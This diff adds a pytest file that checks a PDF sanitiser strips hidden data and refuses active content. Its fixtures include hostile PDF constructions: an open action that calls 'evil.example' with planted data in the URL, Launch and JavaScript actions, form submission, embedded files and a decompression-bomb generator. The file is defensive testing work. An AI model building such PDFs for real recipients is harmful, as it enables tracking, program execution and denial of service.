@@ -1,0 +1,160 @@
+"""What PDFs have in them that nobody means to publish: taken out, or refused; and what stays."""
+
+from __future__ import annotations
+
+import io
+import re
+import zlib
+from collections.abc import Callable
+from typing import Any
+
+import pypdf
+import pytest
+from PIL import Image
+from pypdf.generic import DictionaryObject, EncodedStreamObject, NameObject
+
+from hub.documents.attachments import pdf_streams, pdf_texts
+from tests.helpers.attached import pdf, photo
+from tests.helpers.planted import (
+    CANARY,
+    PATHS,
+    WORDS,
+    action,
+    cleaned,
+    linked,
+    names,
+    objects,
+    paper,
+    refused,
+    stream,
+    tells,
+)
+
+
+def jpeg2000() -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", (8, 8)).save(out, "JPEG2000", comment=CANARY.encode())
+    box = b"uuid" + bytes(16) + CANARY.encode()
+    return out.getvalue() + (len(box) + 4).to_bytes(4, "big") + box
+
+
+def inline() -> dict[str, Any]:
+    data = b"BI /W 40 /H 20 /F /DCT ID " + photo(CANARY, form="JPEG") + b" EI"
+    return {"/Contents": stream(data)}
+
+
+def bomb() -> bytes:
+    """A page of which each drawing is within a limit, and all together are not."""
+    writer = pypdf.PdfWriter(io.BytesIO(pdf(WORDS)))
+    size = 70_000_000
+    packed = zlib.compress(bytes(size), 9)
+    for number in range(pdf_streams.MAX_UNPACKED // size + 1):
+        made = EncodedStreamObject()
+        made._data = packed
+        made.update(names({"/Filter": "/FlateDecode", "/Subtype": "/Image"}))
+        writer.root_object[NameObject(f"/X{number}")] = writer._add_object(made)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+HIDDEN_NOTE = {"/Type": "/Annot", "/Rect": [0, 0, 9, 9], "/Contents": CANARY}
+PDF: dict[str, Callable[[], bytes]] = {
+    **{f"link to {how}": linked(action("URI", URI=to)) for how, to in PATHS.items()
+       if how not in {"as entities", "beside"}},
+    "file": linked(action("GoToR", F=f"{CANARY}.pdf", D=CANARY)),
+    "file by its parts": linked(
+        action("GoToR", F={"/Type": "/Filespec", "/UF": CANARY, "/F": CANARY})),
+    "program": linked(action("Launch", F=CANARY)),
+    "file within": linked(action("GoToE", F=CANARY, T={"/N": CANARY})),
+    "then a program": linked(action("GoTo", D=[0], Next=action("Launch", F=CANARY))),
+    "phones home": lambda: paper({"/OpenAction": action("URI", URI=f"https://evil.example/{CANARY}")}),
+    "page phones home": lambda: paper(page={"/AA": {"/O": action("URI", URI=f"https://e/{CANARY}")}}),
+    "beginning of addresses": lambda: paper({"/URI": {"/Base": f"https://e/{CANARY}"}}),
+    "small picture": lambda: paper(page={"/Thumb": stream(CANARY.encode(), Type="/XObject")}),
+    "hidden remark": lambda: paper(notes=[{**HIDDEN_NOTE, "/Subtype": "/Text", "/F": 2}]),
+    "remark on no screen": lambda: paper(
+        notes=[{**HIDDEN_NOTE, "/Subtype": "/FreeText", "/F": 32}]),
+    "hidden field": lambda: paper(notes=[{
+        "/Type": "/Annot", "/Rect": [0, 0, 9, 9], "/Subtype": "/Widget", "/FT": "/Tx", "/F": 2,
+        "/V": CANARY, "/T": "a"}]),
+    "TeX's path": lambda: paper(page={"/PTEX.FileName": CANARY}),
+    "path of a picture": lambda: paper(page={"/Alt": rf"C:\Users\{CANARY}"}),
+    "layer's author": lambda: paper(
+        {"/OCProperties": {"/OCGs": [{"/Usage": {"/CreatorInfo": {"/Creator": CANARY}}}]}}),
+    "photograph": lambda: paper(picture=(photo(CANARY), "/DCTDecode")),
+    "packed photograph": lambda: paper(
+        picture=(zlib.compress(photo(CANARY)), ["/FlateDecode", "/DCTDecode"])),
+    "photograph in letters": lambda: paper(
+        picture=(photo(CANARY).hex().encode() + b">", ["/ASCIIHexDecode", "/DCTDecode"])),
+    "twice packed": lambda: paper(
+        picture=(zlib.compress(zlib.compress(photo(CANARY))),
+                 ["/FlateDecode", "/FlateDecode", "/DCTDecode"])),
+    "damaged photograph": lambda: paper(picture=(photo(CANARY)[:-300], "/DCTDecode")),
+    "JPEG 2000": lambda: paper(picture=(jpeg2000(), "/JPXDecode")),
+    "packed JPEG 2000": lambda: paper(
+        picture=(zlib.compress(jpeg2000()), ["/FlateDecode", "/JPXDecode"])),
+    "in the page's own drawing": lambda: paper(page=inline()),
+}  # fmt: skip
+PDF_REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
+    "script": (linked(action("JavaScript", JS="app.alert(1)")), "small program"),
+    "script of a field": (
+        lambda: paper(page={"/AA": {"/O": action("JavaScript", JS="x")}}), "small program"),
+    "sends": (linked(action("SubmitForm", F="https://e")), "small program"),
+    "fetches": (linked(action("ImportData", F="x")), "small program"),
+    "file": (lambda: paper(
+        {"/Names": {"/EmbeddedFiles": {"/Names": ["a", {"/EF": {"/F": stream(b"x")}}]}}}),
+        "other files"),
+    "bomb": (bomb, "far larger"),
+}  # fmt: skip
+
+
+TAKEN_OUT = {what: ("a.pdf", make) for what, make in PDF.items()}
+REFUSED = {what: ("a.pdf", make, said) for what, (make, said) in PDF_REFUSED.items()}
+
+
+@pytest.mark.parametrize("what", TAKEN_OUT)
+def test_what_nobody_means_to_publish_is_taken_out(what: str) -> None:
+    name, make = TAKEN_OUT[what]
+    given = make()
+    made = cleaned(name, given)
+    assert tells(given)
+    assert not tells(made)
+    before, after = ["\n".join(pdf_texts(content)).count(WORDS) for content in (given, made)]
+    assert after == before
+
+
+@pytest.mark.parametrize("what", REFUSED)
+def test_what_cannot_be_taken_out_is_refused(what: str) -> None:
+    name, make, said = REFUSED[what]
+    assert said in refused(name, make())
+
+
+FINE: dict[str, Callable[[], bytes]] = {
+    "zoom at the beginning": lambda: paper({"/OpenAction": action("GoTo", D=[0, "/XYZ", 0, 0, 1])}),
+    "place at the beginning": lambda: paper({"/OpenAction": [0, "/Fit"]}),
+    "link to the web": linked(action("URI", URI="https://school.example/a?b=%20c")),
+    "link as people write it": linked(action("URI", URI="www.school.example")),
+    "link to a post box": linked(action("URI", URI="mailto:office@school.example")),
+    "next page": linked(action("Named", N="/NextPage")),
+    "a form": lambda: paper({"/AcroForm": {"/Fields": []}}, notes=[{
+        "/Type": "/Annot", "/Rect": [0, 0, 9, 9], "/Subtype": "/Widget", "/FT": "/Tx", "/T": "a",
+        "/V": "Name", "/F": 4}]),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("what", FINE)
+def test_what_programs_write_into_pdfs_stays(what: str) -> None:
+    given = FINE[what]()
+    keys = {"/OpenAction", "/A", "/V"}
+    before, after = (
+        sorted(
+            re.sub(
+                r"IndirectObject\([^)]*\)", "", str({key: made[key] for key in keys & made.keys()})
+            )
+            for made in objects(content)
+            if isinstance(made, DictionaryObject) and keys & made.keys()
+        )
+        for content in (given, cleaned("a.pdf", given))
+    )
+    assert before == after
